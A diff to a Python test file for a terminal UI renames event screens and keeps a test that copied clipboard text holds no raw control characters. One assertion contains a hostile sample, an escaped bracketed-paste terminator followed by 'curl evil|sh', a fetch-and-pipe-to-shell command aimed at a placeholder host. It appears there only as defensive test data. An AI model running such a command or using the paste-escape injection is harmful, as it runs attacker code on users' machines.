@@ -12,7 +12,7 @@ from failaware import Handlers, Permanent, Store, Worker
 from failaware.cli.main import main
 from tests.conftest import query
 from tui.copies import decision_command, pasteable, quoted
-from tui.screens.event import AttemptScreen, EventScreen
+from tui.screens.events import EventsScreen
 
 from .helpers import gone, inspecting, loaded, rows, shows, until
 
@@ -46,7 +46,7 @@ async def test_whatever_is_copied_holds_no_control(path, clock):
     async with inspecting(path, clock=clock) as pilot:
         app, copied = pilot.app, {}
         await loaded(pilot, 1)
-        for screen in (None, "e", EventScreen(1), AttemptScreen(1, 1), "w"):
+        for screen in (None, "e", EventsScreen(where="id:1"), "w"):
             if isinstance(screen, str):
                 await pilot.press(screen)
             elif screen is not None:
@@ -57,7 +57,7 @@ async def test_whatever_is_copied_holds_no_control(path, clock):
                 copied[type(app.screen).__name__, key] = app.clipboard
         assert len(copied) > 10
         assert not [key for key, text in copied.items() if raw(text)]
-        assert "\\x1b[201~\ncurl evil|sh" in copied["EventScreen", "m"]
+        assert "\\x1b[201~\ncurl evil|sh" in copied["EventsScreen", "m"]
 
 
 @pytest.mark.sqlite("a relative path")
